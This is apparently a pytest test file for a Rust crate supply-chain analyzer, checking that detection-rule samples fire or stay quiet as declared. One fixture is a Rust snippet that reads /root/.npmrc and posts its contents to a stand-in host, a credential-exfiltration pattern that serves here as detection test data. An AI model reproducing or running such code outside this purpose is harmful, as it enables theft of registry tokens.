from __future__ import annotations

from dataclasses import replace

import pytest

from analyzer.errors import SignatureError
from analyzer.model import CrateSource, Finding, Phase
from analyzer.pipeline import analyze
from analyzer.rules.ruleset import RuleSet, load_ruleset
from analyzer.rules.samples import run_samples, sample_source
from analyzer.rules.schema import Rule, Sample

SHIPPED = load_ruleset()
CONNECTS = SHIPPED.rule("build-uses-network")
CODE = 'fn main() { std::net::TcpStream::connect("192.0.2.1:80").ok(); }\n'


def rule(*samples: Sample) -> Rule:
    assert CONNECTS is not None
    return replace(CONNECTS, samples=samples)


def found(
    crate: CrateSource,
    ruleset: RuleSet,
    /,
    before: CrateSource | None = None,
    others: tuple[CrateSource, ...] = (),
) -> tuple[Finding, ...]:
    return analyze(crate, ruleset=ruleset).findings


def complaints(*samples: Sample) -> list[str]:
    return [one.complaint for one in run_samples(rule(*samples), SHIPPED, found)]


def test_sample_code_runs_where_its_path_says() -> None:
    assert complaints(Sample("a", True, (("build.rs", CODE),), lines=(1,))) == [""]
    assert complaints(Sample("a", False, (("src/main.rs", CODE),))) == [""]


def test_sample_of_phase_proc_macro_is_a_macro_crate() -> None:
    sample = Sample("a", True, (("src/lib.rs", CODE),), phase=Phase.PROC_MACRO)

    assert complaints(sample) == [""]


def test_sample_may_bring_its_own_manifest() -> None:
    manifest = '[package]\nname = "sample"\nversion = "0.1.0"\nbuild = "make.rs"\n'
    files = (("make.rs", CODE), ("Cargo.toml", manifest), ("src/lib.rs", ""))

    assert complaints(Sample("a", True, files, lines=(1,))) == [""]


def test_broken_promises_are_named() -> None:
    assert complaints(
        Sample("a", True, (("build.rs", "fn main() {}\n"),)),
        Sample("b", False, (("build.rs", CODE),)),
        Sample("c", True, (("build.rs", CODE),), lines=(2,)),
    ) == ["the rule stays quiet", "the rule fires", "evidence is in lines 1, not in 2"]


def test_blocking_rule_whose_sample_is_only_a_test_is_named() -> None:
    blocking = SHIPPED.rule("secret-file-and-constant-host")
    assert blocking is not None
    code = (
        'fn t() { let k = std::fs::read("/root/.npmrc").unwrap();'
        ' ureq::post("https://x.invalid/").send_bytes(&k).ok(); }\n'
    )
    sample = Sample("a", True, (("tests/t.rs", code),))

    (result,) = run_samples(replace(blocking, samples=(sample,)), SHIPPED, found)

    assert "only a REVIEW" in result.complaint


def test_observed_facts_are_matched_without_a_crate() -> None:
    assert complaints(Sample("a", True, observed=("net.connect 192.0.2.1:80",))) == [""]


@pytest.mark.parametrize("text", ["net.connect", "net.connected x"])
def test_malformed_fact_in_a_sample_is_an_error(text: str) -> None:
    with pytest.raises(SignatureError):
        complaints(Sample("a", True, observed=(text,)))


def test_sample_depends_on_the_catalogued_crates_that_its_code_names() -> None:
    source = sample_source(
        Sample("a", True, (("build.rs", "fn main() { ureq::get(x); }"),)), SHIPPED
    )

    assert b'ureq = "*"' in source.data
    assert b"reqwest" not in source.data


def test_sample_carries_the_name_and_version_it_is_given() -> None:
    source = sample_source(Sample("a", True, crate="serd@9.9.9"), SHIPPED)

    assert (source.ref.name, source.ref.version) == ("serd", "9.9.9")
